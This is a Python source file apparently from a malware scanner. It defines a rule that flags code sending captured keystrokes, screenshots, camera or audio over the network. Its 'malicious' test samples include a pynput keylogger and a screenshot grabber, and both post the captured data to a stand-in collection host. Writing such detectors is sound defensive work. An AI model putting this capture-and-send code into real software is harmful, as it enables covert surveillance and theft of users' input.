"""What somebody types, sees, copies or says, sent over the network."""

from __future__ import annotations

from collections.abc import Iterator

from wheelmark.scan.facts import Act, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import graded, told
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import Taint


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.SEND):
        captured = call.origins_of(Taint.CAPTURE)
        if not captured:
            continue
        severity = graded(call.context, automatic=Severity.CRITICAL, entry=Severity.HIGH, on_call=Severity.MEDIUM)
        if severity is not None:
            yield Evidence.of_call(call, severity, f"{call.name} of {told(captured)}", origins=captured)


RULE = Rule(
    id="captured-sent",
    version=1,
    severity=Severity.CRITICAL,
    tactic=Tactic.COLLECTION,
    message="What is typed, copied, shown on the screen, seen by the camera or heard goes out over the network.",
    reference="https://attack.mitre.org/techniques/T1113/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import requests
                from PIL import ImageGrab

                ImageGrab.grab().save("view.png")
                requests.post("https://collect.example.invalid/", files={"file": open("view.png", "rb")})
            """),
            Sample.imported("""
                import requests
                from pynput import keyboard

                typed = []


                def on_press(key):
                    typed.append(str(key))
                    requests.post("https://collect.example.invalid/", data={"typed": str(key)})


                keyboard.Listener(on_press=on_press).start()
            """),
        ),
        benign=(
            Sample.imported("""
                import pyautogui
                import requests


                def view(path):
                    pyautogui.screenshot(path)


                def fetch(url):
                    return requests.get(url, timeout=10).text
            """),
        ),
    ),
)
